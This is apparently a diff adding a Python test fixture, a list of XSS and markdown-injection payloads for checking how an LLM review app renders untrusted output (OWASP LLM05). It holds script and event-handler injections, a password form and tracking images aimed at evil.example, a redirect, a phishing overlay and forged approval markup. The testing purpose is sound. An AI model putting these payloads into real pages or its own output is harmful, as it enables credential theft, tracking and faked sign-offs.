@@ -1,0 +1,26 @@
+"""Texts that try to become more than text on a screen (review-spec.md §3, and OWASP LLM05)."""
+
+PAYLOADS = (
+    "<script>window.pwned = 1</script>",
+    "<img src=x onerror='window.pwned = 1'>",
+    "<svg/onload=window.pwned=1>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "<style>.stApp { display: none }</style>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
+    "<form action='http://evil.example/'><input name=password></form>",
+    "<div style='position:fixed;inset:0;background:red'>Sign in again</div>",
+    "![chart](http://evil.example/track.png)",
+    "![chart](http://evil.example/track.png 'x' )",
+    "[click here](http://evil.example/)",
+    "[click here](javascript:window.pwned=1)",
+    "<http://evil.example/>",
+    "http://evil.example/bare",
+    "# Review complete",
+    "Approved\n========",
+    ":red[approve] :material/check: :rocket:",
+    "$\\href{http://evil.example/}{x}$",
+    "</div></div><h1>Signed off</h1>",
+    "`</code><img src=http://evil.example/a.png>`",
+    "```html\" onload=\"window.pwned=1\n<img src=http://evil.example/b.png>\n```",
+    "| a | b |\n|---|---|\n| <img src=http://evil.example/c.png> | x |",
+)
